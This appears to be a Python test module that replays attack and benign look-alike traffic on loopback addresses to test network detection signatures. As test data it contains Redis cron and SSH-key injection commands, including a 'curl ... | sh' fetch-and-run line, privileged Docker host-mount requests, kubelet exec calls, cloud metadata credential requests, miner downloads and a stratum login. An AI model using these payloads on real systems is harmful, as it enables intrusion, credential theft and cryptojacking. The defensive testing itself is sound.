"""Real traffic that fires (or must not fire) each built-in signature, for one shared capture.

Every scenario talks from, or to, a loopback address of its own, so the findings of one capture can
be told apart by flow: 127.77.G.N are the attack scenarios, 127.78.G.N benign look-alikes (the
"close negatives" that must fire nothing). Clients that can bind a source address do
(`curl --interface`, httpx's `local_address`, plain sockets); redis-cli cannot, so the Redis server
listens on every scenario address instead; the docker CLI cannot either, so it talks through a
relay listening on its scenario address, which connects on to podman from that address too.

The servers are real where a real one exists here (redis-server, podman's Docker API) and the
small Python servers of capturing.py (or the line listener below, which takes a fixed port for the
mining-pool port) where none does: a kubelet, the instance metadata service, a stratum pool, an
IRC server, DNS and TLS servers.
"""

from __future__ import annotations

import json
import socket
import socketserver
import ssl
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

import dpkt
import httpx

from tests.harness.services import LOOPBACK, Service
from tests.network.capturing import serving

ATTACK, BENIGN = "127.77", "127.78"


def address(kind: str, group: int, n: int) -> str:
    return f"{kind}.{group}.{n}"


@dataclass
class Ports:
    """The server ports of one run (the capture filter is every one of them)."""

    redis: int = 0
    podman: int = 0
    relay: int = 0
    http: int = 0
    dns: int = 0
    tls: int = 0
    pool: int = 3333
    stratum: int = 0
    irc_standard: int = 6667
    irc_other: int = 0
    extra: list[int] = field(default_factory=list)

    def all(self) -> list[int]:
        return sorted({self.redis, self.podman, self.relay, self.http, self.dns, self.tls, self.pool,
                       self.stratum, self.irc_standard, self.irc_other, *self.extra} - {0})


# --------------------------------------------------------------------------- servers of our own


def redis_addresses() -> list[str]:
    """The Redis scenario addresses (redis-server binds at most 16)."""
    return [*(address(ATTACK, 1, n) for n in range(1, 9)), *(address(BENIGN, 1, n) for n in (1, 3, 4, 5, 6, 7, 8))]


def start_scenario_redis(port: int) -> Service:
    """redis-server listening on every Redis scenario address, modules and
    protected configs enabled so the attack commands are accepted as a vulnerable server would."""
    first = redis_addresses()[0]
    service = Service("redis-sig", first, port=port)
    with service.cleanup_on_error():
        argv = ["redis-server", "--port", str(port), "--bind", *redis_addresses(),
                "--protected-mode", "no", "--save", "", "--appendonly", "no", "--dir", str(service.dir),
                "--enable-protected-configs", "yes", "--enable-module-command", "yes"]

        def ready(svc: Service) -> bool:
            try:
                with socket.create_connection((first, port), timeout=1) as sock:
                    sock.sendall(b"PING\r\n")
                    return sock.recv(16).startswith(b"+PONG")
            except OSError:
                return False

        service.launch(argv, ready=ready)
    return service


@contextmanager
def line_listener(host: str, port: int, reply: bytes | None = None) -> Iterator[int]:
    """A TCP server on host:port answering each line with `reply` (None: read only)."""

    class Handler(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            with suppress(OSError):
                for _line in self.rfile:
                    if reply:
                        self.wfile.write(reply)

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address = True
        daemon_threads = True

    server = Server((host, port), Handler)
    with serving(server):
        yield server.server_address[1]


@contextmanager
def relay(listen: str, port: int, upstream: tuple[str, int]) -> Iterator[int]:
    """Forward each connection on listen:port to `upstream`, connecting from `listen`'s address."""

    def pipe(src: socket.socket, dst: socket.socket) -> None:
        with suppress(OSError):
            while data := src.recv(65536):
                dst.sendall(data)
        with suppress(OSError):
            dst.shutdown(socket.SHUT_WR)

    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            with socket.create_connection(upstream, timeout=10, source_address=(listen, 0)) as up:
                back = threading.Thread(target=pipe, args=(up, self.request), daemon=True)
                back.start()
                pipe(self.request, up)
                back.join(10)

    class Server(socketserver.ThreadingTCPServer):
        allow_reuse_address = True
        daemon_threads = True

    server = Server((listen, port), Handler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server.server_address[1]
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


# --------------------------------------------------------------------------- clients


def redis_cli(host: str, port: int, *args: str) -> None:
    subprocess.run(["redis-cli", "-h", host, "-p", str(port), *args], check=False, capture_output=True, timeout=10)


def curl(source: str, url: str, *options: str) -> None:
    subprocess.run(["curl", "-s", "-o", "/dev/null", "--max-time", "5", "--noproxy", "*", "--interface", source,
                    *options, url], check=True, capture_output=True, timeout=10)


def http(source: str, method: str, url: str, *, timeout: float = 5.0, **kwargs: object) -> None:
    transport = httpx.HTTPTransport(local_address=source)
    with httpx.Client(transport=transport, timeout=timeout, trust_env=False) as client, \
            suppress(httpx.TimeoutException):
        client.request(method, url, **kwargs)  # type: ignore[arg-type]


def lines(source: str, host: str, port: int, payload: list[bytes]) -> None:
    with socket.create_connection((host, port), timeout=5, source_address=(source, 0)) as sock:
        for line in payload:
            sock.sendall(line)
        sock.shutdown(socket.SHUT_WR)
        with suppress(OSError):
            while sock.recv(65536):
                pass


def dns_query(source: str, port: int, name: str, qid: int) -> None:
    query = dpkt.dns.DNS(id=qid, op=dpkt.dns.DNS_RD, qd=[dpkt.dns.DNS.Q(name=name, type=dpkt.dns.DNS_A,
                                                                           cls=dpkt.dns.DNS_IN)])
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((source, 0))
        sock.settimeout(5)
        sock.sendto(bytes(query), (LOOPBACK, port))
        with suppress(OSError):
            sock.recv(4096)


def tls_hello(source: str, port: int, server_name: str) -> None:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with socket.create_connection((LOOPBACK, port), timeout=5, source_address=(source, 0)) as raw, \
            context.wrap_socket(raw, server_hostname=server_name) as tls:
        tls.sendall(b"hello\n")
        with suppress(OSError):
            tls.recv(4096)


def docker_cli(port: int, *args: str) -> None:
    """The real docker CLI against the relay on 127.77.2.2; `create` fails (no image), as it should."""
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "DOCKER_CONFIG": "/nonexistent"}
    subprocess.run(["docker", "-H", f"tcp://{address(ATTACK, 2, 2)}:{port}", *args], capture_output=True,
                   timeout=30, check=False, env=env)


# --------------------------------------------------------------------------- the scenarios

CRON_VALUE = "\n\n*/1 * * * * root curl -fsSL http://127.0.0.1/i.sh | sh\n\n"
SSH_KEY_VALUE = ("\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0VpYtDdA0y6K1lKZ0cR7uUo5Rk7bYc8VtN9O5m1Qx "
                 "intruder@example\n\n")


def redis_traffic(port: int) -> None:
    a, b = (lambda n: address(ATTACK, 1, n)), (lambda n: address(BENIGN, 1, n))
    redis_cli(a(1), port, "CONFIG", "SET", "dir", "/root/.ssh/")
    redis_cli(b(1), port, "CONFIG", "GET", "dir")
    redis_cli(b(1), port, "CONFIG", "SET", "maxmemory", "100mb")
    redis_cli(a(2), port, "config", "set", "dir", "/var/lib/redis-data")
    redis_cli(a(3), port, "config", "set", "dbfilename", "authorized_keys")
    redis_cli(b(3), port, "CONFIG", "GET", "dbfilename")
    redis_cli(a(4), port, "SLAVEOF", "127.0.0.1", "1")
    redis_cli(b(4), port, "SLAVEOF", "NO", "ONE")
    redis_cli(a(5), port, "REPLICAOF", "127.0.0.1", "1")
    redis_cli(b(5), port, "REPLICAOF", "no", "one")
    redis_cli(a(6), port, "MODULE", "LOAD", "/tmp/cloudward-no-such-module.so")
    redis_cli(b(6), port, "MODULE", "LIST")
    redis_cli(a(7), port, "SET", "backup1", CRON_VALUE)
    redis_cli(b(7), port, "SET", "note", "remember to curl the API at 10 * 2 minutes")
    redis_cli(a(8), port, "SET", "backup2", SSH_KEY_VALUE)
    redis_cli(b(8), port, "SET", "note", "ssh-rsa keys start with AAAA")


def docker_traffic(podman: str, relay_port: int) -> None:
    a, b = (lambda n: address(ATTACK, 2, n)), (lambda n: address(BENIGN, 2, n))
    create = f"{podman}/v1.41/containers/create"
    http(a(1), "POST", create, json={"Image": "busybox", "Cmd": ["sh"], "HostConfig": {"Privileged": True}})
    http(b(1), "POST", create, json={"Image": "busybox", "Cmd": ["sh"],
                                     "HostConfig": {"Privileged": False, "Binds": ["/srv/data:/data:ro"]}})
    docker_cli(relay_port, "create", "--pull", "never", "--privileged", "-v", "/:/host", "--pid", "host", "busybox")
    http(a(3), "POST", create, json={"Image": "busybox", "HostConfig": {
        "Mounts": [{"Type": "bind", "Source": "/", "Target": "/host"}]}})
    http(a(4), "POST", create, json={"Image": "busybox", "HostConfig": {"PidMode": "host"}})
    http(b(4), "POST", create, json={"Image": "busybox", "HostConfig": {"PidMode": "container:abc123"}})
    http(a(5), "POST", f"{podman}/v1.41/containers/abc123/exec", json={"Cmd": ["sh", "-c", "id"]})
    http(b(5), "GET", f"{podman}/v1.41/containers/abc123/json")
    # the pull targets an unreachable registry, so podman gives up at once (and we do not wait)
    http(a(6), "POST", f"{podman}/v1.41/images/create?fromImage=127.0.0.1%3A1%2Falpineos%2Fdockerapi&tag=latest",
         timeout=0.5)
    http(b(6), "POST", f"{podman}/v1.41/images/create?fromImage=127.0.0.1%3A1%2Flibrary%2Falpine&tag=3",
         timeout=0.5)


def web_traffic(port: int) -> None:
    """kubelet, metadata services and script downloads, all against one HTTP stand-in."""
    base = f"http://{LOOPBACK}:{port}"
    a, b = (lambda g, n: address(ATTACK, g, n)), (lambda g, n: address(BENIGN, g, n))
    # kubelet
    curl(a(3, 1), f"{base}/run/default/web/app", "-X", "POST", "-d", "cmd=id")
    curl(b(3, 1), f"{base}/api/run/report", "-X", "POST", "-d", "cmd=id")
    curl(b(3, 1), f"{base}/pods")
    curl(a(3, 2), f"{base}/exec/default/web/app?command=id&input=1&output=1&tty=0", "-X", "POST")
    curl(b(3, 2), f"{base}/containerLogs/default/web/app?tailLines=10")
    # instance metadata
    curl(a(4, 1), f"{base}/latest/meta-data/iam/security-credentials/web-role")
    curl(b(4, 1), f"{base}/latest/meta-data/instance-id")
    http(a(4, 2), "GET", f"{base}/latest/meta-data/iam/security-credentials/web-role",
         headers={"User-Agent": "aws-sdk-go/1.44.0 (go1.21; linux; amd64)"})
    curl(a(4, 3), f"{base}/v2/credentials/3f1b2c4d-task", "-H", "Host: 169.254.170.2")
    curl(b(4, 3), f"{base}/v2/metadata", "-H", "Host: 169.254.170.2")
    # scripts
    resolve = lambda name: ("--resolve", f"{name}:{port}:{LOOPBACK}")  # noqa: E731
    curl(a(6, 1), f"http://teamtnt.red:{port}/sh/setup/moneroocean_miner.sh", *resolve("teamtnt.red"))
    curl(b(6, 1), f"http://downloads.example.org:{port}/sh/install.sh", *resolve("downloads.example.org"))
    curl(a(6, 2), f"{base}/sh/data/xmr_wallet.dat")
    curl(b(6, 2), f"{base}/data/wallet.json")
    curl(a(6, 3), f"{base}/x.sh")
    curl(b(6, 3), f"http://get.example.org:{port}/install.sh", *resolve("get.example.org"))
    curl(a(6, 4), f"{base}/", "-A", "Mozilla/5.0 zgrab/0.x")
    curl(a(6, 5), f"{base}/", "-A", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")
    curl(b(6, 4), f"{base}/index.html")
    curl(a(6, 6), f"http://ipv4.icanhazip.com:{port}/", *resolve("ipv4.icanhazip.com"))
    curl(a(6, 7), f"http://iplogger.org:{port}/1abc2", *resolve("iplogger.org"))
    curl(b(6, 6), f"http://ipinfo.example.net:{port}/ip", *resolve("ipinfo.example.net"))
    # an address on the test's IOC list, and its neighbour that is not
    curl(a(10, 1), f"{base}/status")
    curl(b(10, 1), f"{base}/status")


def stratum_traffic(pool_port: int, other_port: int) -> None:
    login = json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {
        "login": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        "pass": "x", "agent": "XMRig/6.15.0 (Linux x86_64) libuv/1.38.0 gcc/9.3.0"}}).encode() + b"\n"
    subscribe = b'{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5.1"]}\n'
    authorize = b'{"id": 2, "method": "mining.authorize", "params": ["worker1", "x"]}\n'
    rpc = b'{"jsonrpc": "2.0", "id": 1, "method": "eth_blockNumber", "params": []}\n'
    lines(address(ATTACK, 5, 1), address(ATTACK, 5, 1), pool_port, [login])
    lines(address(ATTACK, 5, 3), LOOPBACK, other_port, [login])
    lines(address(ATTACK, 5, 2), LOOPBACK, other_port, [subscribe, authorize])
    lines(address(BENIGN, 5, 2), LOOPBACK, other_port, [rpc])


def irc_traffic(standard_port: int, other_port: int) -> None:
    register = [b"NICK x86_64|a1b2c3\r\n", b"USER a1b2c3 0 * :a1b2c3\r\n", b"JOIN #work\r\n"]
    lines(address(ATTACK, 9, 1), address(ATTACK, 9, 1), standard_port, register)
    lines(address(ATTACK, 9, 2), LOOPBACK, other_port, register)
    lines(address(BENIGN, 9, 2), LOOPBACK, other_port, [b"hello, this is not NICK on IRC\r\n"])


def dns_traffic(port: int) -> None:
    for n, name in enumerate(("ipv4.icanhazip.com", "iplogger.org", "ssh.tmate.io", "x.teamtnt.red",
                              "pool.supportxmr.com"), 1):
        dns_query(address(ATTACK, 7, n), port, name, 0x1000 + n)
    for n, name in enumerate(("example.org", "notteamtnt.red", "icanhazip.com.example.net", "supportxmr.com"), 1):
        dns_query(address(BENIGN, 7, n), port, name, 0x2000 + n)


def tls_traffic(port: int) -> None:
    for n, name in enumerate(("api.icanhazip.com", "iplogger.org", "tmate.io", "chimaera.cc",
                              "xmr-eu1.nanopool.org"), 1):
        tls_hello(address(ATTACK, 8, n), port, name)
    tls_hello(address(BENIGN, 8, 1), port, "www.example.org")
